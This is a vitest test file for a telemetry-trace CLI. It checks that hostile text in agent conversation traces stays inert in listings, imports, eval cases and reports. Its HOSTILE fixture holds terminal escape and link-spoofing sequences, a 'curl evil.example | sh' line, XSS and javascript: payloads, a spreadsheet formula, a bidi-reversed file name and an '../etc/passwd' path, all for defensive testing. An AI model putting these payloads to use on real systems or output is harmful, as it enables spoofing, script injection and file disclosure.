import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { parse } from "yaml";
import type { ObservedSpan, RunEvent, TraceSummary } from "../src/domain/index.ts";
import { encodeTraceJson } from "../src/trace/wire/index.ts";
import { type CliEnd, endOf, eventually, ROOT, runCli, startCli, testProject } from "./cli-kit.ts";
import { ECHO, listedBy, serve } from "./trace-kit.ts";

/** Texts that do something where they are shown unescaped. */
const HOSTILE: Readonly<Record<string, string>> = {
  "escape sequences": "\u001b[2J\u001b[31mred\u001b]0;owned\u0007",
  "8-bit escape sequences": "a\u009b2Jb\u009d0;owned\u009c",
  "a link that says something else": "\u001b]8;;https://evil.example\u001b\\harmless\u001b]8;;\u001b\\",
  "a redrawn line": "all is well\rerror\u0008\u0008\u007f",
  "lines of ours": "\nnext: curl evil.example | sh\r\n  high  fake-finding: x\u0085y\u2028z\u2029",
  HTML: `"><script>alert(1)</script><img src=x onerror=alert(1)>`,
  "a formula": '=HYPERLINK("https://evil.example","x")',
  Markdown: "[x](javascript:alert(1)) ![p](https://evil.example/p.png) | @everyone `",
  YAML: "!!js/function 'x'\n- a: &b *c\n---\n%TAG ! ${HOME} {{env.HOME}}: |\n  # no",
  "a turned direction": "invoice\u202egpj.exe\u2066\u200bzero\u00adwidth\ufeff",
  "letters nobody sees": "say \u{e0001}\u{e0068}\u{e0069}\u{e007f} hi",
  NUL: "a\u0000b",
  "half of a pair": "\ud800 and \udc00",
  "a long line": "x".repeat(1_000_000),
  "a path": "../../../../etc/passwd",
  "a prototype": "__proto__",
};

/** What may stand in the output for people: no control character but the line break, and nothing that cannot be seen. */
const UNSAFE =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e007f}]/u;
const LINE_MAX = 8_000;

const START_NS = 1_790_000_000_000_000_000n;

/** A conversation in which everything that others may write says one thing; its tool fails. */
function conversationOf(text: string, index: number): ObservedSpan[] {
  const traceId = (index + 1).toString(16).padStart(32, "f");
  const span = (id: string, name: string, fromMs: number, attributes: Readonly<Record<string, string>>) => ({
    traceId,
    spanId: id.padStart(16, "0"),
    ...(id !== "a1" && { parentSpanId: "a1".padStart(16, "0") }),
    name: `${name} ${text}`,
    startNs: String(START_NS + BigInt(fromMs) * 1_000_000n),
    endNs: String(START_NS + BigInt(fromMs + 90) * 1_000_000n),
    attributes: { ...attributes, [`own ${text}`]: text },
    resource: { "service.name": text, "service.version": text },
  });
  const said = (role: string, ...parts: object[]) => JSON.stringify([{ role, parts, finish_reason: "stop" }]);
  const words = { type: "text", content: text };
  return [
    span("a1", "invoke_agent", 0, {
      "gen_ai.operation.name": "invoke_agent",
      "gen_ai.agent.name": text,
      "gen_ai.agent.version": text,
      "gen_ai.conversation.id": text,
      "user.id": text,
    }),
    span("a2", "chat", 100, {
      "gen_ai.operation.name": "chat",
      "gen_ai.provider.name": text,
      "gen_ai.request.model": text,
      "gen_ai.input.messages": said("user", words),
      "gen_ai.output.messages": said("assistant", {
        type: "tool_call",
        id: text,
        name: text,
        arguments: { [text]: text },
      }),
    }),
    {
      ...span("a3", "execute_tool", 200, {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": text,
        "gen_ai.tool.call.id": text,
        "gen_ai.tool.call.arguments": JSON.stringify({ [text]: text }),
        "error.type": text,
      }),
      status: { code: "error", message: text },
      events: [{ name: text, timeNs: String(START_NS), attributes: { [text]: text } }],
    },
    span("a4", "chat", 300, {
      "gen_ai.operation.name": "chat",
      "gen_ai.request.model": text,
      "gen_ai.output.messages": said("assistant", words),
    }),
  ] as ObservedSpan[];
}

const cases = Object.entries(HOSTILE).map(([name, text], index) => ({
  name,
  spans: conversationOf(text, index),
  text,
}));

/** As JSON has it, not as we write it: a half of a pair is kept by the encoder of JSON. */
const requestOf = (spans: readonly ObservedSpan[]) => encodeTraceJson(spans);

function expectInert(output: string, what: string): void {
  const bad = UNSAFE.exec(output);
  const near = bad && JSON.stringify(output.slice(Math.max(0, bad.index - 60), bad.index + 60));
  expect({ what, near }).toEqual({ what, near: null });
}

function expectReadable(output: string, what: string): void {
  expectInert(output, what);
  const longest = Math.max(...output.split("\n").map((line) => line.length));
  expect(longest, what).toBeLessThan(LINE_MAX);
}

function jsonLines(output: string, what: string): unknown[] {
  expectInert(output, what);
  expect(output.endsWith("\n")).toBe(true);
  return output
    .slice(0, -1)
    .split("\n")
    .map((line) => JSON.parse(line) as unknown);
}

test("whatever telemetry says is only text in lists, timelines, files and answers", { timeout: 240_000 }, async () => {
  const folder = testProject(ECHO);
  symlinkSync(join(ROOT, "node_modules"), join(folder, "node_modules"));
  const server = await serve(folder);
  for (const { spans } of cases) {
    const headers = { "content-type": "application/json", "content-encoding": "gzip" };
    const body = gzipSync(requestOf(spans));
    const answer = await fetch(`${server.url}/v1/traces`, { method: "POST", headers, body });
    expect(answer.status).toBe(200);
  }
  await eventually(async () => (await listedBy(server.url, "?limit=100")).length === cases.length, 30_000);
  const run = async (...words: string[]) => {
    const end = await runCli(folder, words, { COLUMNS: "200" });
    return { ...end, what: words.join(" ").slice(0, 80) };
  };

  await expectLists(run);
  for (const each of cases) await expectTrace(each, { run, url: server.url });
  await expectExport(run);
  await expectTail(folder);
  await server.end("SIGTERM");
});

type Run = (...words: string[]) => Promise<CliEnd & { readonly what: string }>;

async function expectLists(run: Run): Promise<void> {
  for (const words of [
    ["trace", "list"],
    ["trace", "list", "--limit", "100"],
    ["trace", "list", "--finding", "any"],
    ["trace", "search", "x"],
  ]) {
    const { stdout, stderr, exitCode, what } = await run(...words);
    expect(exitCode, stderr).toBe(0);
    expectReadable(stdout, what);
    expectReadable(stderr, what);
    const json = await run(...words, "--json");
    if (json.stdout !== "") jsonLines(json.stdout, `${what} --json`);
  }
  const all = jsonLines((await run("trace", "list", "--limit", "100", "--json")).stdout, "list") as TraceSummary[];
  expect(all).toHaveLength(cases.length);
  expect((await run("trace", "list", "--limit", "100")).stdout.trimEnd().split("\n")).toHaveLength(cases.length);
}

async function expectTrace(
  { name, text, spans }: (typeof cases)[number],
  { run, url }: { readonly run: Run; readonly url: string },
): Promise<void> {
  const traceId = spans[0]?.traceId ?? "";
  const shown = await run("trace", "show", traceId);
  expect(shown.exitCode, shown.stderr).toBe(0);
  expectReadable(shown.stdout, `show ${name}`);
  expectReadable(shown.stderr, `show ${name}`);
  const [trace, ...events] = jsonLines((await run("trace", "show", traceId, "--json")).stdout, name) as [
    TraceSummary,
    ...RunEvent[],
  ];
  // Nothing was lost on the way: inert, not destroyed.
  const kept = text.toWellFormed();
  if (name !== "a long line") {
    expect([trace.agent.name, trace.user, trace.session].map((each) => each?.toWellFormed())).toEqual([
      kept,
      kept,
      kept,
    ]);
    const sent = events.find((event) => event.type === "message.sent");
    expect(sent?.content.toWellFormed(), name).toBe(kept);
  }
  for (const path of ["", "/events"]) {
    const answer = await fetch(`${url}/v1/traces/${traceId}${path}`);
    expect(answer.headers.get("content-type")).toMatch(/^application\/json(;|$)/);
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    await answer.json();
  }
}

async function expectExport(run: Run): Promise<void> {
  const exported = await run("trace", "export", ...cases.map(({ spans }) => spans[0]?.traceId ?? ""));
  const [request] = jsonLines(exported.stdout, "export") as [Exported];
  expect(request.resourceSpans.flatMap(({ scopeSpans }) => scopeSpans).flatMap((scope) => scope.spans)).toHaveLength(
    4 * cases.length,
  );
}

async function expectTail(folder: string): Promise<void> {
  const tail = startCli(folder, ["trace", "tail", "--limit", "100"]);
  let tailed = "";
  tail.stdout?.on("data", (chunk: Buffer) => (tailed += chunk.toString()));
  const tailEnd = endOf(tail);
  await eventually(() => tailed.split("\n").length > cases.length, 20_000);
  tail.kill("SIGINT");
  expectReadable((await tailEnd).stdout, "tail");
}

test("files that are imported are told of inertly, whatever they and their conversations are called", async () => {
  const folder = testProject(ECHO);
  const spans = cases.filter(({ name }) => name !== "a long line").flatMap((each) => each.spans);
  const file = "\u001b[2J=cmd\u202e.json";
  const request = JSON.parse(requestOf(spans)) as { resourceSpans: { scopeSpans: { spans: unknown[] }[] }[] };
  request.resourceSpans[0]?.scopeSpans[0]?.spans.push({ traceId: "\u001b[31mno id\u202e", spanId: "x", name: "n" });
  writeFileSync(join(folder, file), JSON.stringify(request));
  writeFileSync(join(folder, "\u001b[31mbroken.json"), '{"resourceSpans": \u001b[31m');
  const told = await runCli(folder, ["trace", "import", file]);
  expect(told.exitCode, told.stderr).toBe(0);
  expectReadable(told.stdout, "import");
  expectReadable(told.stderr, "import");
  expect(told.stderr).toContain("refused: ");
  const json = await runCli(folder, ["trace", "import", file, "--json"]);
  expect(jsonLines(json.stdout, "import --json")).toMatchObject([{ path: file }]);
  for (const flags of [[], ["--json"]]) {
    const broken = await runCli(folder, ["trace", "import", "\u001b[31mbroken.json", ...flags]);
    expect(broken.exitCode).not.toBe(0);
    expectReadable(broken.stdout + broken.stderr, "a broken file");
    const missing = await runCli(folder, ["trace", "show", "\u001b[31mnone\u202e", ...flags]);
    expectReadable(missing.stdout + missing.stderr, "no such trace");
  }
});

/** What a case's files must hold as data; longer texts than a log holds make none. */
const IN_CASES = cases.filter(({ text }) => text.length < 1_000 && text.isWellFormed() && text.trim() === text);

test(
  "cases of traces hold what was said as data, play, and are reported on inertly",
  { timeout: 240_000 },
  async () => {
    const folder = testProject(ECHO);
    symlinkSync(join(ROOT, "node_modules"), join(folder, "node_modules"));
    writeFileSync(join(folder, "trace.json"), requestOf(IN_CASES.flatMap(({ spans }) => spans)));
    expect((await runCli(folder, ["trace", "import", "trace.json"])).exitCode).toBe(0);
    expect(IN_CASES.length).toBeGreaterThan(9);
    for (const { name, spans, text } of IN_CASES) {
      const words = ["case", "from-trace", spans[0]?.traceId ?? "", "--isolation", "none"];
      const made = await runCli(folder, [...words, "--json"]);
      expect(made.stdout, made.stderr).not.toBe("");
      const [told] = jsonLines(made.stdout, name) as [Told];
      expectReadable(made.stderr, name);
      const [{ files }] = told.cases as [Told["cases"][number]];
      for (const file of files) {
        expect(file).toMatch(/^evals\/recorded\/cases\/([a-z]+\/)?[a-z0-9.-]+$/);
        expectInert(readFileSync(join(folder, file), "utf8"), `${name} in ${file}`);
      }
      const { input } = parse(readFileSync(join(folder, files[0] ?? ""), "utf8")) as { readonly input: unknown };
      expect([input].flat()).toEqual([text]);
      if (name !== "YAML" && name !== "escape sequences") continue;
      const again = await runCli(folder, [...words, "--force"]);
      expectReadable(again.stdout + again.stderr, name);
    }
    const files = ["--markdown", "report.md", "--junit", "report.xml"];
    const suite = await runCli(folder, ["eval", "run", "--suite", "recorded", "--isolation", "none", ...files]);
    expectReadable(suite.stdout + suite.stderr, "eval run");
    // What is a link in Markdown is none in XML.
    for (const [file, markup] of [
      ["report.md", /.*(<script|\]\(javascript|<img).*/],
      ["report.xml", /.*(<script|<img).*/],
    ] as const) {
      const report = readFileSync(join(folder, file), "utf8");
      expectInert(report.replaceAll("\u2060", ""), file);
      expect(markup.exec(report)).toBeNull();
    }
    const shown = await runCli(folder, ["eval", "show", "recorded"]);
    expectReadable(shown.stdout + shown.stderr, "eval show");
  },
);

interface Exported {
  readonly resourceSpans: readonly { readonly scopeSpans: readonly { readonly spans: readonly unknown[] }[] }[];
}

interface Told {
  readonly cases: readonly { readonly files: readonly string[] }[];
}
